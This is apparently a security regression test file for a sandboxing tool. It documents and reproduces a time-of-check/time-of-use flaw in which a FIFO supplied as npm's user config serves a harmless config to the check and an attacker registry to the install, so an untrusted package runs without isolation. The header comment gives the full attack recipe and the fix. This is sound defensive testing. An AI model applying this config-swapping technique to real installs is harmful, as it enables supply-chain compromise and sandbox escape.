// Adversary pass adv15 (session 15): the allow run's check of npm's settings
// (src/cli/launch_plan.cc WhySourceIsSwappable → NpmTool::Config(), read ONCE
// with `npm config list -l`) and the install (`npm install`, a later npm
// process that reads every config file again), and the install's origin
// record (src/source/npx_install.cc: WriteInstallOrigin(prefix,
// WhyNpmConfigIsNotPublic(*config)) — judged from the cached config, not
// from what the install read).
//
// Finding:
//   high   the config npm installs under is not the config that was
//          checked. A client env block sets NPM_CONFIG_USERCONFIG=<a file in
//          a directory some cell may write> (not refused on an allow run:
//          npm_config_* reach the host npm, and the file's content passed the
//          check). The file is a FIFO fed by the attacker (a process in a cell
//          granted that directory: FIFOs work across the mount namespace);
//          it answers every npm invocation with a harmless config, except the
//          4th (`npm install`: after `config get globalconfig`, `config list
//          -l`, `config get allow-remote`), which gets `registry=<attacker's
//          registry>`. That registry's dist.tarball names
//          https://registry.npmjs.org/... (npm's replace-registry-host fetches
//          it from the attacker anyway), so package-lock.json's `resolved`
//          looks public; the origin record says "public" (judged from the
//          first read). The trusted npx:// package is the attacker's and runs
//          with NO cell, in the same run. A regular file flipped on a timer
//          wins the same race, less reliably.
//          Fix: judge the settings the install actually used — read npm's
//          config in the same process that installs (or pass every checked
//          setting as flags: --registry=, --strict-ssl=true, --cafile=,
//          --userconfig=/dev/null-like snapshot), refuse a userconfig /
//          globalconfig that is not a regular file owned by the account, and
//          write the origin record from a re-check after the install.

import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, copyFileSync, readFileSync, rmSync, existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, test } from 'node:test';

import { runMcpcell } from './lib/mcpcell.mjs';
import { lyingRegistry } from './lib/mitm.mjs';
import { makeTempDir, makeWritableDir, removeTempDirs, writeReadableFile } from './lib/tmp.mjs';

after(removeTempDirs);

const HERE = path.dirname(fileURLToPath(import.meta.url));
const BASE_PATH = '/usr/local/bin:/usr/bin:/bin';
const ACCOUNT_HOME = os.userInfo().homedir;
const ACCOUNT_CACHE = path.join(ACCOUNT_HOME, '.cache', 'mcpcell');
const ROOT = makeTempDir('adv15-toctou');
const ID = `${process.pid}${Date.now() % 100000}`;
const env = (extra = {}) => ({ PATH: BASE_PATH, HOME: ACCOUNT_HOME, LANG: 'C.UTF-8', ...extra });
const cleanup = [];
after(() => {
  for (const dir of cleanup) rmSync(dir, { recursive: true, force: true });
});

function trusting(source) {
  const p = path.join(ROOT, `policy-${createHash('md5').update(source).digest('hex')}.json`);
  writeReadableFile(p, JSON.stringify({ trusted_sources: [source], rules: [{ name: 'trusted', condition: { not: 'untrusted_source' }, action: 'allow' }] }));
  return p;
}

/** The attacker's FIFO and the process feeding it (as a cell granted the directory would). */
function fifoUserconfig(t, evilAt, evilText) {
  const dir = makeTempDir('adv15-fifo');
  const fifo = path.join(dir, 'npmrc');
  execFileSync('mkfifo', ['-m', '0644', fifo]);
  const log = path.join(dir, 'log');
  writeReadableFile(log, '');
  const feeder = spawn(process.execPath, [path.join(HERE, 'lib', 'adv15_fifo_feeder.mjs'), fifo, evilAt.join(','), evilText,
    'fund=false\n', log], { stdio: 'ignore' });
  t.after(() => feeder.kill('SIGKILL'));
  return { fifo, log };
}

test('adv15: NPM_CONFIG_USERCONFIG is read once for the allow check and again by npm install: a FIFO (or a file swapped in between) gives the install another registry, the origin record still says public, and the attacker\'s package runs with NO cell', {
  timeout: 120_000,
}, async (t) => {
  const name = `adv15-toctou-${ID}`;
  const entry = path.join(ACCOUNT_CACHE, 'npx', `${name}@1.0.0`);
  cleanup.push(entry);
  const reg = await lyingRegistry(t, 'adv15-lying', name, 'ADV15-TOCTOU-RAN');
  const { fifo, log } = fifoUserconfig(t, [4], `registry=${reg.url}\n`);
  const r = await runMcpcell(['run', '--install-scripts=skip', '--policy', trusting(`npx://${name}@1.0.0`), `npx://${name}@1.0.0`],
    { input: '', env: env({ NPM_CONFIG_USERCONFIG: fifo, npm_config_update_notifier: 'false', npm_config_fetch_retries: '0' }), guardMs: 90_000 });
  const origin = existsSync(path.join(entry, '.mcpcell-origin.json')) ? readFileSync(path.join(entry, '.mcpcell-origin.json'), 'utf8') : '(none)';
  t.diagnostic(`exit ${r.code}; feeder: ${readFileSync(log, 'utf8').replace(/\n/g, '; ')}; registry asked: ${reg.requests.join(', ')}; origin ${origin}`);
  t.diagnostic(r.stderr);
  rmSync(entry, { recursive: true, force: true });
  assert.ok(!(/ADV15-TOCTOU-RAN/.test(r.stderr)), `the attacker's package ran with no cell:\n${r.stderr}`);
});

test('adv15: the same, with the FIFO made and fed by an isolated server (a native cell granted --write on the directory)', {
  timeout: 150_000,
}, async (t) => {
  const name = `adv15-toctou-cell-${ID}`;
  const entry = path.join(ACCOUNT_CACHE, 'npx', `${name}@1.0.0`);
  cleanup.push(entry);
  const reg = await lyingRegistry(t, 'adv15-lying', name, 'ADV15-TOCTOU-CELL-RAN');
  const dir = makeWritableDir('adv15-cellfifo');
  copyFileSync(path.join(HERE, 'lib', 'adv15_fifo_feeder.mjs'), path.join(dir, 'feeder.mjs'));
  chmodSync(path.join(dir, 'feeder.mjs'), 0o644);
  const fifo = path.join(dir, 'npmrc');
  const log = path.join(dir, 'log');
  // The attacker's server: isolated, granted the directory, nothing else.
  const cell = spawn(process.env.MCPCELL_BIN ?? path.join(HERE, '..', '..', 'build', 'mcpcell'),
    ['run', '--isolate', '--write', dir, '--', 'sh', '-c', `mkfifo -m 644 ${fifo} && exec node ${dir}/feeder.mjs ${fifo} 4 'registry=${reg.url}
' 'fund=false
' ${log}`],
    { stdio: ['pipe', 'ignore', 'ignore'], env: env() });
  t.after(() => { cell.stdin.end(); cell.kill('SIGTERM'); });
  for (let i = 0; i < 100 && !existsSync(fifo); i++) await new Promise((r) => setTimeout(r, 100));
  assert.ok(existsSync(fifo), 'the cell made its FIFO');
  await new Promise((r) => setTimeout(r, 500));
  const r = await runMcpcell(['run', '--install-scripts=skip', '--policy', trusting(`npx://${name}@1.0.0`), `npx://${name}@1.0.0`],
    { input: '', env: env({ NPM_CONFIG_USERCONFIG: fifo, npm_config_update_notifier: 'false', npm_config_fetch_retries: '0' }), guardMs: 90_000 });
  t.diagnostic(`exit ${r.code}; feeder: ${existsSync(log) ? readFileSync(log, 'utf8').replace(/\n/g, '; ') : '(no log)'}; registry asked: ${reg.requests.join(', ')}`);
  rmSync(entry, { recursive: true, force: true });
  assert.ok(!(/ADV15-TOCTOU-CELL-RAN/.test(r.stderr)), `the attacker's package ran with no cell:\n${r.stderr}`);
});
